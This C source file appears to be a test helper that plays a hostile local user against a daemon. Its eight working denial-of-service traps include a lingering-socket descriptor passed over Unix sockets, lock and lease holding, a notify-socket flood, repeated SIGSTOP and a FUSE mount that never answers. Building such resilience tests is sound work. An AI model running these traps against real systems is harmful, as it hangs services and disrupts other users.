/*
 * attack - what a hostile user of the machine can do to a daemon.
 *
 *	linger TYPE PATH MESSAGE
 *		Send MESSAGE to the socket at PATH, of TYPE dgram or stream,
 *		and with it the only descriptor of a TCP connection whose data
 *		nobody reads, with SO_LINGER of an hour: the process that
 *		closes it last sleeps for an hour.  MESSAGE "": the descriptor
 *		stays unread in a connection that ends.
 *	lock FILE
 *		Hold the locks that a reader may: an exclusive flock(2), and
 *		one for reading by fcntl(2).
 *	spin FILE
 *		Try to get it, for ever, in two processes.
 *	flood MESSAGE N
 *		Send MESSAGE to NOTIFY_SOCKET N times.
 *	listen PATH REPLY
 *		Listen at PATH, and answer each connection with REPLY.
 *	lease FILE
 *		Hold a write lease on a file of our own: a process that opens
 *		or executes it waits for lease-break-time.
 *	stop NAME
 *		Send SIGSTOP again and again to our processes of that name.
 *	fuse DIR
 *		Mount a file system there that reads all requests and answers
 *		none.
 *
 * Prints "ready" once the trap is set; all from lock to fuse, except flood,
 * run for ever.
 */
#include <sys/types.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <netinet/in.h>

#include <arpa/inet.h>

#include <linux/fuse.h>

#include <ctype.h>
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void
ready(void)
{
	puts("ready");
	fflush(stdout);
}

static int
unix_socket(int type, const char *path, struct sockaddr_un *sun)
{
	int fd;

	memset(sun, 0, sizeof(*sun));
	sun->sun_family = AF_UNIX;
	strlcpy(sun->sun_path, path, sizeof(sun->sun_path));
	fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
	if (fd == -1)
		err(1, "socket");
	return fd;
}

/* One end of a TCP connection; the other end reads nothing and stays open. */
static int
lingering(void)
{
	const struct linger linger = {.l_onoff = 1, .l_linger = 3600};
	struct sockaddr_in sin = {
	    .sin_family = AF_INET,
	    .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	socklen_t len = sizeof(sin);
	const int small = 1024;
	static char data[1 << 16];
	int fd, server;

	server = socket(AF_INET, SOCK_STREAM, 0);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (server == -1 || fd == -1)
		err(1, "socket");
	setsockopt(server, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	if (bind(server, (struct sockaddr *)&sin, sizeof(sin)) == -1 ||
	    listen(server, 1) == -1 ||
	    getsockname(server, (struct sockaddr *)&sin, &len) == -1 ||
	    connect(fd, (struct sockaddr *)&sin, sizeof(sin)) == -1 ||
	    accept(server, NULL, NULL) == -1)
		err(1, "loopback");
	if (fcntl(fd, F_SETFL, O_NONBLOCK) == -1)
		err(1, "fcntl");
	while (write(fd, data, sizeof(data)) > 0)
		continue;
	/* A socket that does not block does not linger either. */
	if (fcntl(fd, F_SETFL, 0) == -1 ||
	    setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger)) ==
		-1)
		err(1, "linger");
	return fd;
}

static void
do_linger(char *argv[])
{
	int type = strcmp(argv[0], "dgram") == 0 ? SOCK_DGRAM : SOCK_STREAM;
	union {
		struct cmsghdr align;
		char space[CMSG_SPACE(sizeof(int))];
	} control;
	const char *text = *argv[2] == '\0' ? "x" : argv[2];
	struct iovec iov = {
	    .iov_base = (void *)(uintptr_t)text,
	    .iov_len = strlen(text),
	};
	struct msghdr msg = {
	    .msg_iov = &iov,
	    .msg_iovlen = 1,
	    .msg_control = &control,
	    .msg_controllen = sizeof(control),
	};
	struct sockaddr_un sun;
	struct cmsghdr *c;
	int fd, trap;

	fd = unix_socket(type, argv[1], &sun);
	trap = lingering();
	memset(&control, 0, sizeof(control));
	c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &trap, sizeof(trap));
	if (connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == -1)
		err(1, "connect %s", argv[1]);
	if (sendmsg(fd, &msg, MSG_NOSIGNAL) == -1)
		err(1, "sendmsg %s", argv[1]);
	ready();
	/* The last reference is the receiver's when we close ours. */
	if (type == SOCK_STREAM && *argv[2] != '\0')
		shutdown(fd, SHUT_WR);
	else
		close(fd);
	close(trap);
	for (;;)
		pause();
}

static int
open_to_lock(const char *path)
{
	int fd;

	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd == -1)
		err(1, "open %s", path);
	return fd;
}

static void
do_lock(char *argv[])
{
	struct flock lock = {.l_type = F_RDLCK, .l_whence = SEEK_SET};
	int fd = open_to_lock(argv[0]);

	if (flock(fd, LOCK_EX | LOCK_NB) == -1 ||
	    fcntl(fd, F_OFD_SETLK, &lock) == -1)
		err(1, "lock %s", argv[0]);
	ready();
	for (;;)
		pause();
}

static void
do_spin(char *argv[])
{
	int fd = open_to_lock(argv[0]);

	ready();
	fork();
	while (flock(fd, LOCK_EX | LOCK_NB) == -1)
		continue;
	for (;;)
		pause();
}

static void
do_flood(char *argv[])
{
	const char *path = getenv("NOTIFY_SOCKET");
	struct sockaddr_un sun;
	int fd;

	if (path == NULL)
		errx(1, "no NOTIFY_SOCKET");
	fd = unix_socket(SOCK_DGRAM, path, &sun);
	if (connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == -1)
		err(1, "connect %s", path);
	for (long n = atol(argv[1]); n > 0; n--)
		if (send(fd, argv[0], strlen(argv[0]), 0) == -1)
			err(1, "send");
	ready();
}

static void
do_listen(char *argv[])
{
	struct sockaddr_un sun;
	char request[4096];
	int fd, server;

	server = unix_socket(SOCK_STREAM, argv[0], &sun);
	unlink(argv[0]);
	if (bind(server, (struct sockaddr *)&sun, sizeof(sun)) == -1 ||
	    chmod(argv[0], 0666) == -1 || listen(server, 8) == -1)
		err(1, "listen %s", argv[0]);
	ready();
	while ((fd = accept(server, NULL, NULL)) != -1) {
		if (read(fd, request, sizeof(request)) > 0)
			dprintf(fd, "%s", argv[1]);
		close(fd);
	}
}

static void
do_lease(char *argv[])
{
	int fd = open_to_lock(argv[0]);

	/* The kernel's request to give the lease up. */
	signal(SIGIO, SIG_IGN);
	if (fcntl(fd, F_SETLEASE, F_WRLCK) == -1)
		err(1, "lease %s", argv[0]);
	ready();
	/* Take it again if the kernel has ended it. */
	for (;; usleep(1000))
		fcntl(fd, F_SETLEASE, F_WRLCK);
}

/* Has the process this name? */
static int
is_named(const char *pid, const char *name)
{
	char path[300], line[64] = "";
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	f = fopen(path, "re");
	if (f == NULL)
		return 0;
	if (fgets(line, sizeof(line), f) != NULL)
		line[strcspn(line, "\n")] = '\0';
	fclose(f);
	return strcmp(line, name) == 0;
}

static void
do_stop(char *argv[])
{
	struct dirent *d;
	DIR *proc;

	ready();
	for (;;) {
		proc = opendir("/proc");
		if (proc == NULL)
			err(1, "/proc");
		while ((d = readdir(proc)) != NULL)
			if (isdigit((unsigned char)d->d_name[0]) &&
			    is_named(d->d_name, argv[0]))
				kill((pid_t)atol(d->d_name), SIGSTOP);
		closedir(proc);
	}
}

static void
do_fuse(char *argv[])
{
	struct {
		struct fuse_out_header header;
		struct fuse_init_out init;
	} answer = {
	    .header.len = sizeof(answer),
	    .init = {.major = FUSE_KERNEL_VERSION,
		.minor = 31,
		.max_write = 4096},
	};
	static char request[1 << 17];
	char options[128];
	int fd;

	fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (fd == -1)
		err(1, "/dev/fuse");
	snprintf(options, sizeof(options),
	    "fd=%d,rootmode=40755,user_id=0,group_id=0,allow_other", fd);
	if (mount("silent", argv[0], "fuse", 0, options) == -1)
		err(1, "mount %s", argv[0]);
	if (read(fd, request, sizeof(request)) <= 0)
		err(1, "the first request");
	answer.header.unique =
	    ((struct fuse_in_header *)(void *)request)->unique;
	if (write(fd, &answer, sizeof(answer)) == -1)
		err(1, "the only answer");
	ready();
	while (read(fd, request, sizeof(request)) > 0)
		continue;
	err(1, "/dev/fuse");
}

static const struct {
	const char *name;
	int nargs;
	void (*run)(char *argv[]);
} attacks[] = {
    {"linger", 3, do_linger},
    {"lock", 1, do_lock},
    {"spin", 1, do_spin},
    {"flood", 2, do_flood},
    {"listen", 2, do_listen},
    {"lease", 1, do_lease},
    {"stop", 1, do_stop},
    {"fuse", 1, do_fuse},
};

int
main(int argc, char *argv[])
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (argc >= 2 && strcmp(argv[1], attacks[i].name) == 0 &&
		    argc == attacks[i].nargs + 2) {
			attacks[i].run(argv + 2);
			return 0;
		}
	fprintf(stderr, "usage: attack ATTACK ARGUMENT ...\n");
	return 2;
}
